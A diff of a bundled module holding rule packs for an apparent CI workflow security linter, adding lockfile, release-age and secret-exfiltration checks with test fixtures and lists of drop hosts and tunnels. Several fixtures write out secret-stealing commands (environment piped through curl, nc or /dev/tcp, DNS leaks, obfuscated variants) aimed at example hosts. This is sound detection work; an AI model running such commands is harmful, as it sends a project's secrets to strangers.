@@ -1,4 +1,66 @@
-export const id=564;export const ids=[564];export const modules={7564:((e,t,n)=>{n.d(t,{TESTED_PACKS:()=>r});let r=[{name:`repository`,path:`packs/repository.flux.yaml`,text:`apiVersion: flux/v1
+export const id=564;export const ids=[564];export const modules={7564:((e,t,n)=>{n.d(t,{TESTED_PACKS:()=>r});let r=[{name:`dependencies`,path:`packs/dependencies.flux.yaml`,text:`apiVersion: flux/v1
+kind: ConstraintSet
+metadata:
+  name: dependencies
+  version: 0.1.0
+  title: Dependencies
+  description: Audits of the lockfiles and manifests that say what a project is made of.
+
+constraints:
+  - id: lock-unreadable
+    title: Every lockfile is understood
+    why: What is not understood is not audited, and a lockfile that a tool cannot read is what somebody who hides something would leave behind.
+    help: Let the package manager write the file again; resolve conflicts of a merge first, and do not edit it by hand.
+    url: https://github.com/cocapn/flux/blob/main/docs/rules/dependencies/lock-unreadable.md
+    tags: [security]
+    severity: high
+    confidence: high
+    enforcement: block
+    ratchet: new
+    on: {fact: dependency.problem}
+    assert: "problem.extent == 'note'"
+    message: >-
+      (problem.extent == 'whole' ? 'the lockfile cannot be read: ' : 'a part of the lockfile cannot be read: ') + problem.message
+    at: problem.message
+    grade:
+      - {when: "problem.extent == 'part'", severity: medium}
+    tests:
+      - name: "avoid: a merge that was left unfinished"
+        files:
+          package-lock.json: |
+            {
+              "name": "app",
+              "lockfileVersion": 3,
+              "packages": {
+            <<<<<<< HEAD
+                "node_modules/left": {"version": "1.0.0"}
+            =======
+                "node_modules/right": {"version": "1.0.0"}
+            >>>>>>> feature
+              }
+            }
+        expect: [{path: package-lock.json, line: 5, severity: high, confidence: high, persona: regular}]
+      - name: "prefer: a lockfile as the package manager wrote it"
+        files:
+          Cargo.lock: |
+            version = 4
+
+            [[package]]
+            name = "app"
+            version = "0.1.0"
+        expect: []
+      - name: a version of the format that nobody knows
+        files:
+          package-lock.json: |
+            {"name": "app", "lockfileVersion": 99, "packages": {}}
+        expect: [{path: package-lock.json, line: 1, severity: high}]
+      - name: a binary lockfile, which nobody can review
+        files: {bun.lockb: "#!/usr/bin/env bun\\nbun-lockfile-format-v0\\n"}
+        expect: [{path: bun.lockb, line: 1, severity: high}]
+      - name: a lockfile that is empty
+        files: {yarn.lock: ""}
+        expect: [{path: yarn.lock, line: 1, severity: high}]
+`},{name:`repository`,path:`packs/repository.flux.yaml`,text:`apiVersion: flux/v1
 kind: ConstraintSet
 metadata:
   name: repository
@@ -576,6 +638,45 @@ functions:
         && words.slice(words.size() > 0 ? 1 : 0, words.size()).all(word, word.matches('^(-[uBEIs]*|/dev/stdin)$'))
       || words.size() > 1 && words[1].matches('^<\\\\(')
       || words.exists(word, word.matches('^(-[a-zA-Z]*c|-e|--eval|-[cC]ommand)$')) && words.exists(word, word.matches('\\\\$\\\\(|\`|<\\\\('))
+  - name: isOwnHost
+    # The machine itself, services of the job, and what no stranger can reach.
+    params: {host: string}
+    returns: bool
+    expression: >-
+      !host.contains('.') || host.matches('^(127|10|192[.]168|172[.](1[6-9]|2[0-9]|3[01])|169[.]254)[.][0-9.]+$')
+      || host.matches('[.](local|localhost|internal|lan|home|corp|svc|test)$')
+  - name: isServiceHost
+    # Services that secrets belong to: forges, registries, clouds, and what builds report to. As of 2026-11.
+    params: {host: string}
+    returns: bool
+    expression: >-
+      host.matches('(^|[.])(' + [
+        'github[.]com|githubusercontent[.]com|ghcr[.]io|gitlab[.]com|bitbucket[.]org|codeberg[.]org|gitea[.]com|sr[.]ht|sourceforge[.]net',
+        'npmjs[.](org|com)|pypi[.]org|rubygems[.]org|crates[.]io|nuget[.]org|myget[.]org|packagist[.](org|com)|hex[.]pm|pub[.]dev|sonatype[.](org|com)',
+        'maven[.]org|apache[.]org|gradle[.]org|jetbrains[.]com|anaconda[.]org|clojars[.]org|cocoapods[.]org|conan[.]io|jsr[.]io|deno[.]com',
+        'docker[.](com|io)|quay[.]io|gcr[.]io|pkg[.]dev|azurecr[.]io|jfrog[.]io|cloudsmith[.]io|packagecloud[.]io|fury[.]io|gemfury[.]com|buf[.]build',
+        'amazonaws[.]com|amazon[.]com|azure[.](com|net)|azurewebsites[.]net|windows[.]net|microsoftonline[.]com|microsoft[.]com|office[.](com|net)|visualstudio[.]com|live[.]com',
+        'googleapis[.]com|google[.]com|cloudflare[.]com|fastly[.]com|netlify[.]com|vercel[.]com|heroku[.]com|herokuapp[.]com|fly[.]io|render[.]com|railway[.]app',
+        'digitalocean[.]com|hetzner[.](cloud|com)|ovh[.]com|scaleway[.]com|linode[.]com|oraclecloud[.]com|ibm[.]com|aliyuncs[.]com|supabase[.]co|firebaseio[.]com',
+        'codecov[.]io|coveralls[.]io|codacy[.]com|codeclimate[.]com|deepsource[.](io|com)|sonarcloud[.]io|sonarsource[.]com|snyk[.]io|veracode[.]com|coverity[.]com|semgrep[.]dev|fossa[.]com',
+        'readthedocs[.](org|io|com)|sentry[.]io|bugsnag[.]com|rollbar[.]com|datadoghq[.](com|eu)|newrelic[.]com|honeycomb[.]io|grafana[.](net|com)|launchdarkly[.]com|pagerduty[.]com|opsgenie[.]com',
+        'slack[.]com|discord[.]com|telegram[.]org|matrix[.]org|zulipchat[.]com|twilio[.]com|sendgrid[.](com|net)|mailgun[.](net|com)|mailchimp[.]com|twitter[.]com|x[.]com|mastodon[.]social|bsky[.]social|line[.]me|feishu[.]cn|dingtalk[.]com|qq[.]com',
+        'atlassian[.](com|net)|trello[.]com|asana[.]com|linear[.]app|notion[.](com|so)|airtable[.]com|zendesk[.]com|jira[.]com|monday[.]com|clickup[.]com',
+        'circleci[.]com|travis-ci[.](com|org)|appveyor[.]com|buildkite[.]com|cirrus-ci[.]com|jenkins[.]io|codemagic[.]io|bitrise[.]io|pulumi[.]com|terraform[.]io|hashicorp[.]cloud|doppler[.]com|infisical[.]com|1password[.]com|bitwarden[.]com',
+        'auth0[.]com|okta[.]com|onelogin[.]com|apple[.]com|mozilla[.]org|expo[.]dev|appcenter[.]ms|browserstack[.]com|saucelabs[.]com|lambdatest[.]com|percy[.]io|chromatic[.]com|crowdin[.]com|transifex[.]com|lokalise[.]com|localazy[.]com',
+        'modrinth[.]com|curseforge[.]com|forgecdn[.]net|steampowered[.]com|itch[.]io|wago[.]io|wowinterface[.]com|hangar[.]papermc[.]io|openai[.]com|anthropic[.]com|huggingface[.]co|kaggle[.]com|zenodo[.]org|wordpress[.](com|org)|shopify[.]com|stripe[.]com|paddle[.]com'
+      ].join('|') + ')$')
+  - name: isDropHost
+    # Hosts where anybody picks up what is sent: catchers of requests, tunnels, pastes. As of 2026-11.
+    params: {host: string}
+    returns: bool
+    expression: >-
+      host.matches('(^|[.])(' + [
+        'webhook[.]site|webhook[.]cool|requestbin[.](com|net)|requestcatcher[.]com|pipedream[.]net|beeceptor[.]com|hookb[.]in|hookdeck[.]com|typedwebhook[.]tools|mockbin[.](org|io)|putsreq[.]com|requestrepo[.]com',
+        'ngrok[.](io|app|dev)|ngrok-free[.](app|dev)|trycloudflare[.]com|loca[.]lt|localtunnel[.]me|serveo[.]net|localhost[.]run|lhr[.]life|pagekite[.]me|portmap[.]io|telebit[.]io',
+        'oastify[.]com|oast[.](fun|live|me|online|pro|site)|interact[.]sh|burpcollaborator[.]net|dnslog[.](cn|link)|ceye[.]io|canarytokens[.](com|org)|eyes[.]sh|bxss[.]me',
+        'transfer[.]sh|file[.]io|0x0[.]st|temp[.]sh|bashupload[.]com|gofile[.]io|anonfiles[.]com|catbox[.]moe|pixeldrain[.]com|pastebin[.]com|paste[.]ee|hastebin[.]com|dpaste[.](com|org)|termbin[.]com|ix[.]io|sprunge[.]us|rentry[.]co|controlc[.]com'
+      ].join('|') + ')$')
 
 constraints:
   - id: action-input-unknown
@@ -1653,6 +1754,9 @@ constraints:
     assert: "!has(uses.resembles)"
     message: "'%s looks like %s'.format([quoted(uses.raw), quoted(uses.resembles)])"
     at: uses.raw
+    grade:
+      # A repository of such a name is somebody's; without one it is most often a slip that fails.
+      - {when: uses.?exists.orValue(false), confidence: high}
     tests:
       - name: "avoid: a slip of the pen"
         files:
@@ -1674,6 +1778,20 @@ constraints:
                 steps:
                   - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
         expect: []
+      - name: with a connection, whether there is such a repository
+        repositories: {action/checkout: {tags: {v4: a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1}}}
+        files:
+          .github/workflows/ci.yml: |
+            jobs:
+              build:
+                steps:
+                  - uses: action/checkout@v4
+                  - uses: actons/checkout@v4
+                  - if: false
+                    uses: action/checkout@v4
+        expect:
+          - {line: 4, severity: high, confidence: high}
+          - {line: 5, severity: high, confidence: low}
       - name: letters that look alike, words in another order, a separator less
         files:
           .github/workflows/ci.yml: |
@@ -3786,6 +3904,30 @@ constraints:
           - {line: 10, severity: low, confidence: low, persona: pedantic}
           - {line: 12, severity: medium, confidence: low, persona: auditor}
           - {line: 14, severity: low, confidence: low, persona: auditor}
+      - name: with a connection the commit tells its version
+        repositories:
+          actions/checkout:
+            tags: {v6: a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1, v6.0.1: a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1, v4.2.2: b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2}
+        files:
+          .github/workflows/ci.yml: |
+            jobs:
+              build:
+                steps:
+                  - uses: actions/checkout@A1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1
+                  - uses: actions/checkout@b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2
+                  - uses: actions/checkout@c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3
+                  - uses: actions/checkout@v5
+              upload:
+                steps:
+                  - uses: actions/checkout@a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1
+                  - uses: actions/upload-artifact@v4
+                    with: {path: .}
+        expect:
+          - {line: 4, severity: low, confidence: low}
+          - {line: 5, severity: medium, confidence: low}
+          - {line: 6, severity: medium, confidence: low}
+          - {line: 7, severity: medium, confidence: low}
+          - {line: 10, severity: medium, confidence: high}
       - name: with uploads only checkouts before them count
         files:
           .github/workflows/ci.yml: |
@@ -3985,6 +4127,8 @@ constraints:
                     credentials: {username: a, password: "x\${{ secrets.X }}"}
                   queue:
                     credentials: {username: a, password: " \${{ secrets.X }} "}
+                  nothing:
+                    credentials: {username: a, password: }
                   open:
                     credentials: {username: a}
         expect: [{line: 5, column: 9, message: "the password for the image of service \`db\` stands in the file"}]
@@ -7482,8 +7626,8 @@ constraints:
     tags: [correctness]
     severity: high
     confidence: high
-    persona: pedantic
-    enforcement: warn
+    # Off: \`syntax-duplicate-key\` says the same of every section. It is for those who want to treat jobs in another way.
+    enforcement: off
     ratchet: new
     on: {fact: workflow.structure}
     assert: structure.problem != 'duplicate-key' || structure.section != 'jobs'
@@ -7498,7 +7642,7 @@ constraints:
             jobs:
               test: {runs-on: ubuntu-24.04, steps: [{run: ./test}]}
               Test: {runs-on: ubuntu-24.04, steps: [{run: ./test}]}
-        expect: [{line: 4, column: 3, severity: high, confidence: high, persona: pedantic, message: "job id \`Test\` is given twice, before at line 3, column 3"}]
+        expect: [{line: 4, column: 3, severity: high, confidence: high, persona: regular, message: "job id \`Test\` is given twice, before at line 3, column 3"}]
       - name: "prefer: an id for each job"
         files:
           .github/workflows/ci.yml: |
@@ -7723,6 +7867,60 @@ constraints:
               b: {needs: [a], runs-on: ubuntu-24.04, steps: [{run: ./a}]}
               c: {needs: [a, b], runs-on: ubuntu-24.04, steps: [{run: ./a}]}
         expect: []
+  - id: ignore-expired
+    title: Comments that accept findings have not expired
+    why: Somebody accepted the finding up to a day and meant to have it repaired by then; since that day it is reported again.
+    help: Repair what the comment accepts and remove it, or give it another day with a reason.
+    url: https://github.com/cocapn/flux/blob/main/docs/rules/workflow/ignore-expired.md
+    tags: [security]
+    severity: low
+    confidence: high
+    enforcement: warn
+    ratchet: new
+    # Needs to know which day it is, which no file says.
+    unavailable: warn
+    on: {fact: workflow.ignore}
+    assert: "!ignore.expired"
+    message: "'this comment accepts findings of %s up to %s'.format([backticked(ignore.rules), ignore.?expires.orValue('')])"
+    at: ignore
+    tests:
+      - name: "avoid: a comment whose day has passed"
+        files:
+          .github/workflows/ci.yml: |
+            on: push
+            jobs:
+              build:
+                runs-on: ubuntu-24.04
+                steps:
+                  - uses: octo/build@v1 # flux: ignore[unpinned-uses] reason="no release yet" expires=2025-12-31
+        expect: [{line: 6, column: 29, severity: low, confidence: high, persona: regular, message: "this comment accepts findings of \`unpinned-uses\` up to 2025-12-31"}]
+      - name: "prefer: one whose day is still to come"
+        files:
+          .github/workflows/ci.yml: |
+            on: push
+            jobs:
+              build:
+                runs-on: ubuntu-24.04
+                steps:
+                  - uses: octo/build@v1 # flux: ignore[unpinned-uses] reason="no release yet" expires=2026-06-30
+        expect: []
+      - name: the last day counts, and comments of other files do too
+        files:
+          action.yml: |
+            runs:
+              using: composite
+              steps:
+                - run: make # zizmor: ignore[a, workflow/b] expires=2025-12-31
+                - run: make # flux: ignore[a] expires=2026-01-01
+                - run: make # flux: ignore[a]
+                - run: "make # flux: ignore[a] expires=2025-01-01"
+          .github/dependabot.yml: |
+            version: 2
+            # flux: ignore[dependabot-cooldown] expires=2025-01-01
+            updates: []
+        expect:
+          - {path: action.yml, line: 4, column: 17, message: "this comment accepts findings of \`a\`, \`workflow/b\` up to 2025-12-31"}
+          - {path: .github/dependabot.yml, line: 2, column: 1}
   - id: unpinned-images
     title: Images are named by their digest
     why: A tag can be moved to another image at any time, and that image then runs with the token and secrets of the job.
@@ -8010,7 +8208,13 @@ constraints:
     when: "!flow.skipped"
     assert: flow.hops.size() == 0
     message: >-
-      '%s becomes part of %s and comes from %s%s'.format([
+      flow.origin == flow.text
+      ? '%s becomes part of %s through %s'.format([
+        quoted(flow.text),
+        flow.sink == 'run' ? 'the script' : '%s, which %s runs as code'.format([quoted(flow.?input.orValue('')), quoted(flow.?action.orValue(''))]),
+        quoted(flow.expression)
+      ])
+      : '%s becomes part of %s and comes from %s%s'.format([
         quoted(flow.text),
         flow.sink == 'run' ? 'the script' : '%s, which %s runs as code'.format([quoted(flow.?input.orValue('')), quoted(flow.?action.orValue(''))]),
         quoted(flow.origin),
@@ -8113,6 +8317,24 @@ constraints:
                 steps:
                   - run: echo \${{ env.TITLE }}
         expect: []
+      - name: functions and brackets that hide what is read
+        files:
+          .github/workflows/hidden.yml: |
+            on: issues
+            jobs:
+              build:
+                runs-on: ubuntu-24.04
+                steps:
+                  - run: echo \${{ fromJSON(github.event.issue.body).name }}
+                  - run: echo \${{ case(github.actor == 'x', github.event.issue.title, 'y') }}
+                  - run: echo \${{ (github.event).issue.body }}
+                  - run: echo \${{ github.event.issue.title }} \${{ format('{0}', github.event.issue.title) }}
+                  - run: echo \${{ fromJSON(github.event.issue.number) }} \${{ case(github.event.issue.title == 'x', 'y', 'z') }}
+                  - run: echo \${{ fromJSON(contains(github.event.issue.body, 'x')) }} \${{ (github.event).issue.number }}
+        expect:
+          - {line: 6, column: 32, severity: high, confidence: medium, message: "\`github.event.issue.body\` becomes part of the script through \`fromJSON(github.event.issue.body).name\`"}
+          - {line: 7, column: 49}
+          - {line: 8, column: 24}
   - id: obfuscation
     title: Expressions, uses and inputs are written plainly
     why: What is put together only when the workflow runs is hidden from people who review it and from tools that audit it.
@@ -8754,6 +8976,98 @@ constraints:
             workflows: {}
             dependencies:
               octo/build@a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1: {ref: v1, commit: sha1-a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1, owner_id: 1, repo_id: 2}
+        expect: {undecided: unavailable}
+  - id: lock-fresh-tag
+    title: Locked releases are not brand-new
+    why: Most releases that somebody smuggled code into were found and removed within days; a lock that waits never has them.
+    help: Lock an older release, or look at what is new in this one.
+    url: https://github.com/cocapn/flux/blob/main/docs/rules/workflow/lock-fresh-tag.md
+    tags: [security, supply-chain]
+    severity: info
+    confidence: high
+    enforcement: warn
+    ratchet: new
+    # Needs the forge: without an answer it is not checked, and the run does not fail because of that.
+    unavailable: warn
+    on: {fact: workflow.locked}
+    settings:
+      days: {type: int, default: 3, doc: How many days old a release has to be at least.}
+    when: locked.refKind == 'symbolic'
+    assert: locked.?age.orValue(settings.days) >= settings.days
+    message: "'%s was released %s, expected at least %d days ago'.format([quoted(locked.pin), locked.?age.orValue(0) == 0 ? 'today' : locked.?age.orValue(0) == 1 ? 'yesterday' : '%d days ago'.format([locked.?age.orValue(0)]), settings.days])"
+    at: locked.pin
+    tests:
+      - name: "avoid: a release of yesterday"
+        repositories: {octo/build: {tags: {v1.2.3: a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1}, ages: {v1.2.3: 1}}}
+        files:
+          .github/workflows/actions.lock: |
+            version: v0.0.2
+            workflows:
+              .github/workflows/ci.yml: [octo/build@v1.2.3]
+            dependencies:
+              octo/build@v1.2.3: {ref: v1.2.3, commit: sha1-a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1, owner_id: 1, repo_id: 2}
+          .github/workflows/ci.yml: |
+            on: push
+            jobs:
+              build:
+                runs-on: ubuntu-24.04
+                steps:
+                  - uses: octo/build@v1.2.3
+        expect: [{path: .github/workflows/actions.lock, line: 5, column: 3, severity: info, confidence: high, persona: regular, message: "\`octo/build@v1.2.3\` was released yesterday, expected at least 3 days ago"}]
+      - name: "prefer: one that others have looked at"
+        repositories: {octo/build: {tags: {v1.2.3: a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1}, ages: {v1.2.3: 30}}}
+        files:
+          .github/workflows/actions.lock: |
+            version: v0.0.2
+            workflows:
+              .github/workflows/ci.yml: [octo/build@v1.2.3]
+            dependencies:
+              octo/build@v1.2.3: {ref: v1.2.3, commit: sha1-a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1, owner_id: 1, repo_id: 2}
+          .github/workflows/ci.yml: |
+            on: push
+            jobs:
+              build:
+                runs-on: ubuntu-24.04
+                steps:
+                  - uses: octo/build@v1.2.3
+        expect: []
+      - name: branches, commits, and tags of which nothing tells have no age
+        repositories:
+          octo/build:
+            tags: {v1: a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1, v2: b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2, v3: b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2, v4: b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2}
+            branches: {main: a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1}
+            ages: {main: 0, v2: 0, v3: 2, v4: 3}
+        files:
+          .github/workflows/actions.lock: |
+            version: v0.0.2
+            workflows: {}
+            dependencies:
+              octo/build@v1: {ref: v1, commit: sha1-a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1, owner_id: 1, repo_id: 2}
+              octo/build@main: {ref: main, commit: sha1-a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1, owner_id: 1, repo_id: 2}
+              octo/build@v2: {ref: v2, commit: sha1-b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2, owner_id: 1, repo_id: 2}
+              octo/build@v3: {ref: v3, commit: sha1-b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2, owner_id: 1, repo_id: 2}
+              octo/build@v4: {ref: v4, commit: sha1-b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2, owner_id: 1, repo_id: 2}
+              octo/build@b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2: {ref: v2, commit: sha1-b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2, owner_id: 1, repo_id: 2}
+        expect:
+          - {path: .github/workflows/actions.lock, line: 6, message: "\`octo/build@v2\` was released today, expected at least 3 days ago"}
+          - {path: .github/workflows/actions.lock, line: 7}
+      - name: a repository may wait longer
+        settings: {days: 14}
+        repositories: {octo/build: {tags: {v1: a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1}, ages: {v1: 13}}}
+        files:
+          .github/workflows/actions.lock: |
+            version: v0.0.2
+            workflows: {}
+            dependencies:
+              octo/build@v1: {ref: v1, commit: sha1-a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1, owner_id: 1, repo_id: 2}
+        expect: [{path: .github/workflows/actions.lock, line: 4}]
+      - name: without a connection it is not known
+        files:
+          .github/workflows/actions.lock: |
+            version: v0.0.2
+            workflows: {}
+            dependencies:
+              octo/build@v1: {ref: v1, commit: sha1-a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1, owner_id: 1, repo_id: 2}
         expect: {undecided: unavailable}
   - id: lock-invalid
     title: The lock of actions has the form that the platform reads
@@ -12633,6 +12947,27 @@ constraints:
           - {line: 13, column: 5, message: "\`image\` is missing in \`container\`"}
           - {line: 14, column: 7, message: "\`password\` is missing in \`credentials\`"}
           - {line: 16, column: 9, message: "a step must run a script with \`run\` or an action with \`uses\`"}
+      - name: "an input without anything lacks its type, and an output its value"
+        files:
+          .github/workflows/ci.yml: |
+            on:
+              workflow_call:
+                inputs:
+                  one: {}
+                  two:
+                outputs:
+                  three:
+                secrets:
+                  four:
+              workflow_dispatch:
+                inputs:
+                  five:
+            jobs:
+              build: {runs-on: ubuntu-24.04, steps: [{run: make}]}
+        expect:
+          - {line: 4, column: 7, message: "\`type\` is missing in \`one\` of \`inputs of workflow_call\`"}
+          - {line: 5, column: 7}
+          - {line: 7, column: 7, message: "\`value\` is missing in \`three\` of \`outputs of workflow_call\`"}
       - name: "what a merge key would bring is not known"
         files:
           .github/workflows/ci.yml: |
@@ -13254,10 +13589,10 @@ constraints:
     when: "!uses.skipped && uses.?action.orValue('') in ['aquasecurity/setup-trivy', '1password/load-secrets-action']"
     assert: "variables.version != '' && variables.version != 'latest' && !variables.version.contains('\${{')"
     message: >-
-      quoted(uses.?action.orValue('')) + (variables.version.contains('\${{') ? ' gets its version from an expression' : ' installs the latest version of its tool')
+      quoted(uses.?action.orValue('')) + (variables.version.contains('\${{') || uses.inputsHidden ? ' gets its version from an expression' : ' installs the latest version of its tool')
     at: [uses.inputs.version, uses.raw]
     grade:
-      - {when: "variables.version.contains('\${{')", confidence: low}
+      - {when: "variables.version.contains('\${{') || uses.inputsHidden", confidence: low}
     tests:
       - name: "avoid: the latest version"
         files:
@@ -13301,6 +13636,162 @@ constraints:
         expect:
           - {line: 6, column: 15, severity: medium, confidence: high}
           - {line: 8, column: 16, severity: medium, confidence: low, message: "\`1password/load-secrets-action\` gets its version from an expression"}
+  - id: secret-exfiltration
+    title: Secrets are not sent to hosts that they do not belong to
+    why: Whoever gets hold of one commit of a workflow can have every secret of it sent to a host of their own, and nobody sees it in the logs.
+    help: Remove the command, and replace the secrets if it ever ran; a service that needs the secret belongs into the setting \`trusted\`.
+    url: https://github.com/cocapn/flux/blob/main/docs/rules/workflow/secret-exfiltration.md
+    tags: [security]
+    severity: high
+    confidence: medium
+    enforcement: block
+    ratchet: new
+    on: {fact: workflow.transfer}
+    settings:
+      trusted:
+        type: list(string)
+        default: []
+        doc: Hosts that secrets belong to, in lower case; what stands below them is trusted too.
+    variables:
+      - name: host
+        expression: transfer.?host.orValue('')
+      - name: isTrusted
+        expression: settings.trusted.exists(one, variables.host == one || variables.host.endsWith('.' + one))
+      - name: isWhole
+        expression: transfer.extent != 'named'
+    when: "!transfer.skipped && !variables.isTrusted && !(has(transfer.host) && isOwnHost(variables.host))"
+    # Headers and addresses are where services expect a credential, and a host that a variable names is most often one of these.
+    assert: >-
+      !variables.isWhole && !isDropHost(variables.host)
+      && (transfer.way != 'data' || variables.host == '' || isServiceHost(variables.host))
+    message: >-
+      '%s sends %s to %s'.format([
+        quoted(transfer.program),
+        transfer.extent == 'environment' ? 'the whole environment' : transfer.extent == 'every' ? 'every secret'
+        : (transfer.secrets.size() == 1 ? 'the secret ' : 'the secrets ') + transfer.secrets.map(name, quoted(name)).join(', '),
+        variables.host == '' ? 'a host that only the run knows' : quoted(variables.host)
+      ])
+    at: transfer
+    grade:
+      - {when: isDropHost(variables.host) || variables.isWhole && variables.host != '', confidence: high}
+      - {when: variables.isWhole || transfer.bare || transfer.encoded, confidence: medium}
+      - {when: "true", severity: medium, confidence: low, persona: pedantic}
+    tests:
+      - name: "avoid: a secret that goes to a host of somebody"
+        files:
+          .github/workflows/ci.yml: |
+            on: push
+            jobs:
+              build:
+                runs-on: ubuntu-24.04
+                steps:
+                  - env:
+                      API_TOKEN: \${{ secrets.API_TOKEN }}
+                    run: |
+                      make
+                      curl -s -X POST -d "API_TOKEN=$API_TOKEN" https://collector.example.org
+        expect: [{line: 10, column: 11, severity: high, confidence: medium, persona: regular, message: "\`curl\` sends the secret \`API_TOKEN\` to \`collector.example.org\`"}]
+      - name: "prefer: a secret for the service that it belongs to"
+        files:
+          .github/workflows/ci.yml: |
+            on: push
+            jobs:
+              build:
+                runs-on: ubuntu-24.04
+                steps:
+                  - env:
+                      TOKEN: \${{ secrets.TOKEN }}
+                    run: |
+                      curl -H "Authorization: Bearer $TOKEN" https://service.example.org/builds
+                      curl -d "token=$TOKEN" https://api.github.com/x
+        expect: []
+      - name: everything at once, whoever gets it
+        files:
+          .github/workflows/ci.yml: |
+            jobs:
+              a:
+                steps:
+                  - run: env | base64 -w0 | curl -sd @- https://api.github.com/gists
+                  - run: printenv > /tmp/e; curl -F "f=@/tmp/e" "$WHERE"
+                  - run: curl -d '\${{ toJSON(secrets) }}' https://x.example.org
+                  - run: |
+                      DATA=$(env | gzip | base64)
+                      wget --post-data="d=$DATA" https://x.example.org
+                  - shell: pwsh
+                    run: |
+                      $body = Get-ChildItem env: | ConvertTo-Json
+                      Invoke-RestMethod -Uri https://x.example.org -Method Post -Body $body
+                  - run: cat /proc/self/environ > /dev/tcp/203.0.113.7/443
+                  - run: e''nv | c\\url -d @- https://x.example.org
+        expect:
+          - {line: 4, column: 33, confidence: high, message: "\`curl\` sends the whole environment to \`api.github.com\`"}
+          - {line: 5, column: 33, confidence: medium, message: "\`curl\` sends the whole environment to a host that only the run knows"}
+          - {line: 6, column: 14, confidence: high, message: "\`curl\` sends every secret to \`x.example.org\`"}
+          - {line: 9, column: 11}
+          - {line: 13, column: 11}
+          - {line: 14, column: 14, message: "\`redirection\` sends the whole environment to \`203.0.113.7\`"}
+          - {line: 15, column: 22}
+      - name: ways through the script
+        files:
+          .github/workflows/ci.yml: |
+            env:
+              ONE: \${{ secrets.ONE }}
+              HOOK: https://hooks.example.org/in
+            jobs:
+              a:
+                env: {TWO: "\${{ secrets.TWO || 'none' }}"}
+                steps:
+                  - run: echo "$ONE" | base64 | curl --data-binary @- "$HOOK"
+                  - run: dig "$(echo $TWO | xxd -p).x.example.org"
+                  - run: nc x.example.org 4444 <<< "$ONE $TWO"
+                  - run: |
+                      cat <<EOF > body.json
+                      {"ONE": "$ONE"}
+                      EOF
+                      curl --json @body.json x.example.org/in
+                  - run: curl "https://webhook.site/?t=\${{ secrets.THREE }}"
+        expect:
+          - {line: 8, column: 37, message: "\`curl\` sends the secret \`ONE\` to \`hooks.example.org\`"}
+          - {line: 9, column: 14, message: "\`dig\` sends the secret \`TWO\` to \`x.example.org\`"}
+          - {line: 10, column: 14, message: "\`nc\` sends the secrets \`ONE\`, \`TWO\` to \`x.example.org\`"}
+          - {line: 15, column: 11, confidence: medium}
+          - {line: 16, column: 14, confidence: high}
+      - name: a login of a service that nobody knows is for the pedantic
+        files:
+          .github/workflows/ci.yml: |
+            jobs:
+              a:
+                steps:
+                  - run: |
+                      curl -d '{"user": "ci", "password": "\${{ secrets.PASSWORD }}"}' https://login.example.org
+        expect: [{line: 5, column: 11, severity: medium, confidence: low, persona: pedantic}]
+      - name: what leaves nothing of a secret, or not the job
+        files:
+          .github/workflows/ci.yml: |
+            env: {KEY: "\${{ secrets.KEY }}", DEPLOY: "\${{ secrets.DEPLOY_URL }}"}
+            jobs:
+              a:
+                steps:
+                  - run: |
+                      SIGNATURE=$(echo -n "$BODY" | openssl dgst -sha256 -hmac "$KEY")
+                      curl -d "signature=$SIGNATURE" https://x.example.org
+                      curl -d "id=$(curl -H "X-Key: $KEY" https://service.example.org | jq .id)" https://x.example.org
+                      curl -X POST "$DEPLOY" -d "sha=$GITHUB_SHA"
+                      curl -u "me:$KEY" -T dist.zip https://files.example.org
+                      curl -d "key=$KEY" http://localhost:8080
+                      curl -d '$KEY' https://x.example.org
+                      echo "curl -d $KEY https://x.example.org"
+                      # curl -d "KEY=$KEY" https://x.example.org
+                      curl -d "ok=\${{ secrets.KEY != '' }}" https://x.example.org
+                  - if: false
+                    run: env | curl -d @- https://x.example.org
+        expect: []
+      - name: hosts that the repository trusts
+        settings: {trusted: [example.org]}
+        files:
+          .github/workflows/ci.yml: |
+            jobs: {a: {steps: [{run: "env | curl -d @- https://x.example.org; curl -d '\${{ secrets.A }}' https://myexample.org"}]}}
+        expect: [{line: 1, column: 67, message: "\`curl\` sends the secret \`A\` to \`myexample.org\`"}]
   - id: dangerous-triggers
     title: No workflow is started by an event that gives strangers a privileged run
     why: The run has a token that can write and the repository's secrets, while the data it works on comes from outside; one step that executes or expands that data hands over the repository.
@@ -13411,6 +13902,9 @@ constraints:
     assert: uses.refKind == 'commit' || variables.policy in ['any', 'ref-pin']
